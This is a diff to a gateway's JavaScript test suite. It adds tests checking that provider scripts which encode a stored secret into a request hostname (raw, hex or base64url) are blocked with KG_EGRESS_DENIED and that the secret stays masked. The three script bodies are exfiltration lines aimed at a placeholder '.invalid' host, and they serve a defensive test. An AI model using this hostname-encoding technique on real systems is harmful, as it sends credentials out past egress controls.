@@ -419,6 +419,50 @@ describe('scripts that fail at request time', () => {
   });
 });
 
+describe('a script that builds a denied host from a secret', () => {
+  const SECRET = 'Kq7-SecretValue_81zP';
+  const forms = [
+    SECRET,
+    SECRET.toLowerCase(),
+    Buffer.from(SECRET).toString('hex'),
+    Buffer.from(SECRET).toString('base64url').toLowerCase(),
+  ];
+
+  it.each([
+    [
+      'hex, in the request URI',
+      'reqHeaders.setURI("http://" + hex_encode(secret("AppSecret")) + ".invalid/x");',
+    ],
+    [
+      'base64url, in the request URI',
+      'reqHeaders.setURI("http://" + base64url_encode(secret("AppSecret")) + ".invalid/x");',
+    ],
+    [
+      'as it is, in http_post_json',
+      'http_post_json("http://" + secret("AppSecret") + ".invalid/t", {}, {});',
+    ],
+  ])('gets 502 KG_EGRESS_DENIED that never shows it (%s)', async (_, body) => {
+    const { serviceToken } = await setUpProvider(
+      gw,
+      {
+        name: 'leaky',
+        mode: 'script',
+        prefixUrl: upstream.url,
+        request: `function (reqHeaders) { ${body} }`,
+      },
+      { AppSecret: SECRET },
+    );
+    const res = await fetch(`${gw.outboundUrl}/v1/proxy/leaky/x`, {
+      headers: { authorization: `Bearer ${serviceToken}` },
+    });
+    expect(res.status).toBe(502);
+    const text = await res.text();
+    expect(JSON.parse(text)).toMatchObject({ code: 'KG_EGRESS_DENIED' });
+    expect(text).toContain('****');
+    for (const form of forms) expect(text.toLowerCase()).not.toContain(form.toLowerCase());
+  });
+});
+
 describe('upstream answers above the size limit', () => {
   it('fail the request with 502 KG_UPSTREAM_TOO_LARGE, and the gateway keeps serving', async () => {
     const small = await startTestGateway({ env: { KEYGATE_MAX_UPSTREAM_RESPONSE_BYTES: '65536' } });
